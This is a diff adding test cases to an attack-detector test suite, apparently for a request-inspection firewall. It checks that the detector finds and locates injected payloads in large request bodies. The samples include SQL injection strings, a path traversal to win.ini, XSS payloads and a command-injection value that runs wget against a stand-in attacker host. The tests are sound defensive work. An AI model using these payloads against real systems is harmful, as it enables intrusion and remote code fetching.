@@ -1,5 +1,10 @@
 import { describe, expect, it } from 'vitest';
-import { createAttackDetector, isInspectedHeader, isPlainToken } from './attack-detector.js';
+import {
+  createAttackDetector,
+  createAttackEngine,
+  isInspectedHeader,
+  isPlainToken,
+} from './attack-detector.js';
 
 const detector = createAttackDetector();
 const line = (overrides: { path?: string; query?: string; headers?: Record<string, string | string[]> }) =>
@@ -119,6 +124,45 @@ describe('attack detector: where it looks', () => {
     const items = Array.from({ length: 5000 }, (_, i) => `note number ${i}, nothing to see`);
     items[4321] = "admin' --";
     expect(detector.inspectBody({ items })?.matched_location).toBe('body.items.4321');
+  });
+
+  it('names the earliest offending value, whichever rules the later ones trip', () => {
+    const items = Array.from({ length: 3000 }, (_, i) => `note number ${i}, nothing to see`);
+    items[2500] = "admin' --";
+    items[1700] = "1' OR '1'='1";
+    items[1200] = 'x; wget http://evil.example/x.sh';
+    items[900] = '1 ORDER BY 3';
+    expect(detector.findInBody({ items })).toMatchObject({ category: 'sqli', location: 'body.items.900' });
+    items[400] = '..\\..\\windows\\win.ini'; // found in its path form
+    expect(detector.findInBody({ items })).toMatchObject({
+      category: 'path_traversal',
+      location: 'body.items.400',
+    });
+  });
+
+  it('names the offending value among a hundred thousand, in a late batch', () => {
+    const items = Array.from({ length: 100_000 }, (_, i) => `note ${i}, fine`);
+    items[87_654] = '<svg onload=alert(1)>';
+    items[99_999] = "' OR 1=1 --";
+    expect(detector.inspectBody(items)).toEqual({
+      reason: 'ABUSE_PATTERN_DETECTED',
+      rule_id: 'ATTACK_XSS',
+      matched_location: 'body.87654',
+    });
+  });
+
+  it('stops reading a body at the batch that holds its first finding', () => {
+    const engine = createAttackEngine();
+    let read = 0;
+    function* inputs() {
+      for (let i = 0; i < 100_000; i++) {
+        read += 1;
+        yield { text: i === 10 ? '<script>alert(1)</script>' : `note ${i}, fine`, parent: null, segment: i };
+      }
+    }
+    expect(engine.find(inputs())?.location).toBe('10');
+    expect(read).toBeLessThan(5000);
+    engine.dispose();
   });
 
   it('finds a payload deep inside a long value, past the engine’s 4096-byte limit', () => {
